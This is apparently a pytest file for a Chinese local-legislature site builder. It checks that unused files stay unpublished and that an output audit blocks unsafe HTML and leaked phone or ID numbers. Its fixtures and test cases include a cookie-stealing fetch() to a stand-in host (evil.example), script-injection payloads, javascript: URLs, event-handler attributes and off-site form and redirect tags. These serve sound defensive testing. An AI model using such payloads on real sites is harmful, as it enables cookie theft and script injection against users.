"""Publish only what a published page needs (issue 24): files no published page uses stay out of the
site, what goes out is audited as the reader receives it, and a finding fails the build with the file
named while the previous site stays as it was."""
from __future__ import annotations

import hashlib

import pytest

from support.project import copy_project, mkdocs_build

from renda_site.publish.audit import Context, NewLines, check_html

MOBILE = "13812345678"
ARTICLE = '---\ntitle: {title}\ndate: "{date}"\nsource: 县人大常委会办公室\n{extra}---\n\n{body}\n'


def _tree(site):
    return {p.relative_to(site).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(site.rglob("*")) if p.is_file()}


@pytest.fixture(scope="module")
def built(tmp_path_factory):
    project = copy_project(tmp_path_factory.mktemp("published") / "p")
    docs = project / "docs"
    (docs / "assets" / "files").mkdir(parents=True)
    from pypdf import PdfWriter
    for name in ("yusuan-caoan.pdf", "caogao-fujian.pdf", "dingshi-fujian.pdf", "gongkai.pdf"):
        writer = PdfWriter()
        writer.add_blank_page(200, 200)
        with open(docs / "assets" / "files" / name, "wb") as handle:
            writer.write(handle)
    (docs / "assets" / "js" / "tongji.js").write_text("fetch('https://evil.example/?'+document.cookie)\n",
                                                      encoding="utf-8")
    (project / "overrides" / "beifen.txt").write_text("旧的页脚备份\n", encoding="utf-8")
    column = docs / "dongtai"
    (column / "2026-11-20-gongkai.md").write_text(ARTICLE.format(
        title="关于公开征求意见的公告", date="2026-11-20", extra="",
        body="[征求意见稿](../assets/files/gongkai.pdf)"), encoding="utf-8")
    (column / "2026-11-21-caogao.md").write_text(ARTICLE.format(
        title="尚未定稿的通知", date="2026-11-21", extra="draft: true\n",
        body="[附件](../assets/files/caogao-fujian.pdf)"), encoding="utf-8")
    (column / "2099-01-01-dingshi.md").write_text(ARTICLE.format(
        title="将来的通知", date="2099-01-01", extra="", body="[附件](../assets/files/dingshi-fujian.pdf)"),
        encoding="utf-8")
    site = project / "site"
    result = mkdocs_build(project, site)
    assert result.returncode == 0, result.stderr[-3000:]
    return project, site, result.stderr


def test_only_files_that_published_pages_use_are_published(built):
    project, site, log = built
    assert (site / "assets/files/gongkai.pdf").is_file()                 # linked by a published article
    assert (site / "assets/js/t2s.txt").is_file()                        # listed in publish_also
    assert (site / "assets/img/emblem.svg").is_file()                    # the masthead (site settings)
    for left_out in ("assets/files/yusuan-caoan.pdf", "assets/files/caogao-fujian.pdf",
                     "assets/files/dingshi-fujian.pdf", "assets/js/tongji.js", "beifen.txt"):
        assert not (site / left_out).exists(), left_out
    for named in ("docs/assets/files/yusuan-caoan.pdf", "docs/assets/files/caogao-fujian.pdf",
                  "docs/assets/js/tongji.js", "overrides/beifen.txt"):
        assert named in log, named
    assert not list(site.rglob("lunr*")), "the theme's files no page loads are left out too"


def test_every_published_file_came_from_a_published_page_or_the_kit(built):
    _, site, _ = built
    assert not [p for p in site.rglob("*") if p.is_symlink()]
    assert not list(site.rglob("*.md")) and not list(site.rglob("*.yaml"))


def _failing_build(project, site, template_change):
    before = _tree(site)
    footer = project / "overrides" / "partials" / "rd-footer.html"
    original = footer.read_text(encoding="utf-8")
    footer.write_text(template_change(original), encoding="utf-8")
    try:
        result = mkdocs_build(project, site)
    finally:
        footer.write_text(original, encoding="utf-8")
    assert result.returncode != 0
    assert _tree(site) == before, "the previous site must stay as it was"
    return result.stderr


# Each snippet and the words its finding must carry (the finding names what it found, so one build
# shows that every snippet on its own is found: one finding is enough to stop the build).
TEMPLATE_SNIPPETS = [
    ("<script>alert(1)</script>", "含有内联脚本「alert(1)」"),
    ('<script src="https://cdn.evil.example/x.js"></script>', "加载了其他网站的脚本「https://cdn.evil.example/x.js」"),
    ('<img src="https://evil.example/t.png" alt="t">', "从其他网站加载「https://evil.example/t.png」"),
    ('<a href="javascript:alert(2)">x</a>', "含有不安全的地址「javascript:alert(2)」"),
    ('<div onmouseover="alert(3)">x</div>', "含有事件属性 onmouseover"),
    ("<p>值班 138<b>1234</b>5678</p>", "页面文字中有疑似手机号码「138****5678」"),
    ("<p>联系 &#49;3912345678</p>", "疑似手机号码「139****5678」"),
]


def test_the_output_audit_fails_the_build_on_what_the_check_cannot_see(built):
    """A template is the developers' file: check does not render it, the output audit reads what it made."""
    project, site, _ = built
    snippets = "".join(snippet for snippet, _ in TEMPLATE_SNIPPETS)
    log = _failing_build(project, site, lambda text: text.replace("<footer", snippets + "<footer", 1)
                         if "<footer" in text else snippets + text)
    assert "发布前检查未通过：" in log and "来自 " in log
    missed = [snippet for snippet, finding in TEMPLATE_SNIPPETS if finding not in log]
    assert not missed, log[-2000:]


CONTEXT = Context(site_path="/", own_hosts=frozenset({"www.qxrd.example"}), embed_hosts=frozenset({"map.example.cn"}))


@pytest.mark.parametrize("page,found", [
    ('<script type="application/json" id="__config">{"a": 1}</script>', None),
    ('<script src="../assets/js/search.js"></script>', None),
    ('<iframe src="https://map.example.cn/embed"></iframe>', None),
    ('<a href="https://www.npc.gov.cn/">全国人大</a><a href="tel:0000-0000000">电话</a>', None),
    ('<link rel="canonical" href="https://www.qxrd.example/a/">', None),
    ('<svg viewBox="0 0 24 24"><path d="M15 16 17 18 19 20 21 13 14 15 16"/></svg>', None),
    ('<iframe src="https://evil.example/"></iframe>', "embed_hosts"),
    ('<link rel="stylesheet" href="https://evil.example/x.css">', "从其他网站加载"),
    ('<img srcset="a.png 1x, https://evil.example/b.png 2x" alt="x">', "从其他网站加载"),
    ('<video poster="//evil.example/p.jpg"></video>', "从其他网站加载"),
    ('<form action="https://evil.example/"></form>', "表单提交到其他网站"),
    ('<a href="&#106;avascript:alert(1)">x</a>', "不安全的地址"),
    ('<img src="data:image/png;base64,AAAA" alt="x">', "不安全的地址"),
    ('<meta http-equiv="refresh" content="0;url=https://evil.example/">', "自动跳转"),
    ('<base href="https://evil.example/">', "<base>"),
    ('<p style="background:url(https://evil.example/t.png)">x</p>', "从其他网站加载"),
    ('<style>@import "https://evil.example/x.css";</style>', "从其他网站加载"),
    ('<p>&#49;&#51;&#56;12345678</p>', "疑似手机号码"),
    ('<p>138\u20631234\u20635678</p>', "疑似手机号码"),
    ('<p title="张三 13812345678">x</p>', "疑似手机号码"),
    ('<td>110101</td><td>19900307</td><td>1234</td>', None),           # three cells: no number a reader reads
    ('<p title="&lt;img src=x onerror=alert(1)&gt;">x</p>', None),   # a payload quoted as text in a value
    ('<p>把 src=https://evil.example/x.png 写进正文 onload=1</p>', None),  # text, not attributes
    ('<img alt="x" src="a.png" onerror="alert(1)">', "事件属性"),
    ('<p>值班 138<span hidden>99</span>12345678</p>', "疑似手机号码"),
    ('<p>110101<span>19900307</span>1234</p>', "疑似身份证号码"),
])
def test_audit_of_one_page(page, found):
    problems = check_html("dongtai/x/index.html", f"<html><body>{page}</body></html>", CONTEXT).problems
    if found is None:
        assert problems == []
    else:
        assert any(found in p for p in problems), problems


def test_lines_seen_on_an_earlier_page_are_read_once_but_a_new_neighbour_is_read_with_them():
    lines = NewLines()
    chrome = "<header>县人大</header>\n" * 3
    assert check_html("a/index.html", chrome + "<p>正文</p>", CONTEXT, lines).problems == []
    assert lines(chrome + "<p>正文</p>") == ""
    problems = check_html("b/index.html", chrome + "<p>值班 138</p>\n<header>县人大</header>\n<p>12345678</p>",
                          CONTEXT, lines).problems
    assert problems == [], "separate paragraphs are not one number"
    split_by_a_tag = "<p>值班 138\n<header>县人大</header>\n12345678</p>".replace("<header>县人大</header>", "<b></b>")
    problems = check_html("c/index.html", chrome + split_by_a_tag, CONTEXT, lines).problems
    assert any("疑似手机号码" in p for p in problems)


def test_the_importer_refuses_a_word_zip_bomb_before_unpacking_it(tmp_path):
    from support.bad_inputs import ATTACKS  # noqa: F401  (the corpus imports its issue-24 part itself)
    from support.publish_attacks import _bomb, _docx_edit

    from renda_site.editors.importer.blocks import ImportFailed
    from renda_site.editors.importer.readers import read_docx
    bomb = tmp_path / "zhadan.docx"
    _docx_edit("bomb", _bomb)(bomb)
    with pytest.raises(ImportFailed, match="压缩炸弹"):
        read_docx(bomb)


def test_the_invisible_characters_are_every_format_character_of_this_python():
    import sys
    import unicodedata

    from renda_site.input.privacy import INVISIBLE
    format_characters = {c for c in range(sys.maxunicode + 1) if unicodedata.category(chr(c)) == "Cf"}
    assert format_characters <= set(INVISIBLE)


@pytest.mark.parametrize("name", ["huiyi.mp4", "yinpin.mp3", "song.woff2", "song.woff"])
def test_the_audit_refuses_a_web_page_renamed_to_a_type_nothing_else_reads(tmp_path, name):
    """A file the check never saw (a theme's font, say) is still opened by the audit: its first bytes must
    be of its type."""
    from renda_site.publish.published import _audit_file
    fake = tmp_path / name
    fake.write_text("<html><script>alert(1)</script></html>", encoding="utf-8")
    assert any("与扩展名" in problem for problem in _audit_file(fake, name, None, CONTEXT))
    real = {".mp4": b"\x00\x00\x00\x10ftypisom\x00\x00\x02\x00", ".mp3": b"ID3\x03\x00\x00\x00\x00\x00\x00",
            ".woff2": b"wOF2\x00\x01\x00\x00", ".woff": b"wOFF\x00\x01\x00\x00"}[fake.suffix]
    fake.write_bytes(real + b"\x00" * 32)
    assert _audit_file(fake, name, None, CONTEXT) == []
